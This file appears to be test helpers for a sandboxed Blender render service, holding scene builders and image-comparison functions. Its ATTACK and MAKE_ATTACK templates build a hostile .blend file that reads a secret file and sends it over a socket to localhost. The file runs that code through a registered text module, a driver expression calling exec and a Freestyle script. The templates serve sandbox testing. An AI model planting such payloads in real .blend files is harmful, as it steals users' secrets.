"""Scenes that Blender creates for the tests, and functions that compare pictures."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path

from PIL import Image, ImageChops

from runners.blender.engine import is_python

URL = "https://example.com/scene.blend"
SMALL = {"engine": "cycles", "resolution_x": 64, "resolution_y": 36, "samples": 2}
"""Settings of a frame that takes a moment to render."""

MAKE_SCENES = """
import sys
import bpy

directory = sys.argv[-1]
scene = bpy.context.scene
scene.render.engine = "CYCLES"
scene.cycles.samples = 4
scene.cycles.use_denoising = False
scene.render.resolution_x, scene.render.resolution_y, scene.render.resolution_percentage = 128, 80, 50
scene.frame_current = 2
cube = bpy.data.objects["Cube"]
for frame, x in ((1, -2), (10, 2)):
    cube.location.x = x
    cube.keyframe_insert("location", frame=frame)
above = bpy.data.objects.new("Above", bpy.data.cameras.new("Above"))
above.location.z = 12
scene.collection.objects.link(above)
scene.timeline_markers.new("cut", frame=1).camera = bpy.data.objects["Camera"]
bpy.data.scenes.new("Unfilmed").render.engine = "CYCLES"
huge = bpy.data.scenes.new("Huge")
huge.render.engine = "CYCLES"
huge.render.resolution_x = huge.render.resolution_y = 20000
bpy.data.scenes.new("Flat").render.engine = "BLENDER_WORKBENCH"
layered = bpy.data.scenes.new("Layered")
layered.render.engine = "CYCLES"
layered.cycles.use_denoising = False
layered.cycles.tile_size = 64
layered.camera = above
for shown in (cube, above):
    layered.collection.objects.link(shown)
layered.view_layers.new("Second")
layered.use_nodes = True
nodes = layered.node_tree.nodes
writer = nodes.new("CompositorNodeOutputFile")
writer.base_path = "/output/"
layers = nodes.new("CompositorNodeRLayers")
layers.scene, layers.layer = layered, "Second"
layered.node_tree.links.new(layers.outputs[0], writer.inputs[0])
bpy.ops.wm.save_as_mainfile(filepath=f"{directory}/scene.blend")
bpy.ops.wm.save_as_mainfile(filepath=f"{directory}/packed.blend", compress=True)
"""

ATTACK = """
import pathlib, socket
try:
    pathlib.Path("/output/{name}").write_text("ran")
except OSError:
    pass
secret = pathlib.Path({secret!r}).read_text()
pathlib.Path({directory!r}, {name!r}).write_text(secret)
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(secret.encode())
"""

MAKE_ATTACK = """
import json, sys
import bpy

job = json.loads(sys.argv[-1])
scene = bpy.context.scene
scene.render.engine = "CYCLES"
scene.cycles.samples = 1
scene.cycles.use_denoising = False
scene.render.resolution_x = scene.render.resolution_y = 32
text = bpy.data.texts.new("register.py")
text.write(job["text"])
text.use_module = True
bpy.data.texts.new("driver").write(job["driver"])  # an expression has at most 255 characters
driver = bpy.data.objects["Cube"].driver_add("location", 0).driver
driver.expression = "0 if exec(bpy.data.texts['driver'].as_string()) else 1"
style = bpy.data.texts.new("style.py")
style.write(job["style"])
scene.render.use_freestyle = True
settings = scene.view_layers[0].freestyle_settings
settings.mode = "SCRIPT"
settings.modules.new().script = style
scene.use_nodes = True
node = scene.node_tree.nodes.new("CompositorNodeOutputFile")
node.base_path = job["node"]
scene.node_tree.links.new(scene.node_tree.nodes["Render Layers"].outputs[0], node.inputs[0])
image = bpy.data.images.load(job["image"])
material = bpy.data.materials["Material"]
texture = material.node_tree.nodes.new("ShaderNodeTexImage")
texture.image = image
bpy.ops.wm.save_as_mainfile(filepath=job["target"], relative_remap=False)
"""


def blender(*arguments: object) -> None:
    """Run Blender without the product's sandbox and script."""
    command = ["blender", "-b", "--factory-startup", *map(str, arguments)]
    subprocess.run(command, capture_output=True, text=True, check=True, timeout=300)


PLAIN = """
import json, sys
import bpy

scene, target, settings, frames = json.loads(sys.argv[-1])
bpy.ops.wm.open_mainfile(filepath=scene)
for path, value in settings.items():
    *owners, name = path.split(".")
    owner = bpy.context.scene
    for part in owners:
        owner = getattr(owner, part)
    setattr(owner, name, value)
for frame in frames:
    bpy.context.scene.frame_set(frame)
    bpy.context.scene.render.filepath = f"{target}/plain_{frame}.png"
    bpy.ops.render.render(write_still=True)
"""


def render_plainly(
    engine: str, scene: Path, directory: Path, settings: Mapping[str, object], frames: Sequence[int]
) -> list[Path]:
    """Render frames with a Blender, or a Python that has it as a module, outside the product's sandbox and script.

    `settings` are those of the scene by dotted path. Returns the pictures.
    """
    script = directory / "plain.py"
    script.write_text(PLAIN)
    job = json.dumps([str(scene), str(directory), dict(settings), list(frames)])
    options = ["-I"] if is_python(engine) else ["-b", "--factory-startup", "--python-exit-code", "1", "-P"]
    command = [engine, *options, str(script), "--", job]
    subprocess.run(command, capture_output=True, text=True, check=True, timeout=300)
    return [directory / f"plain_{frame}.png" for frame in frames]


def difference(one: Path, other: Path) -> tuple[int, int, int, int] | None:
    """Return the bounding box of the pixels that differ between two pictures, or None."""
    with Image.open(one) as first, Image.open(other) as second:
        assert (first.size, first.mode) == (second.size, second.mode)
        return ImageChops.difference(first, second).getbbox(alpha_only=False)


def describe(path: Path, entries: str = "stream=codec_name,width,height,pix_fmt") -> str:
    """Return ffprobe's description of a picture or a video."""
    command = ["ffprobe", "-v", "error", "-show_entries", entries, "-of", "csv=p=0", str(path)]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout.strip()
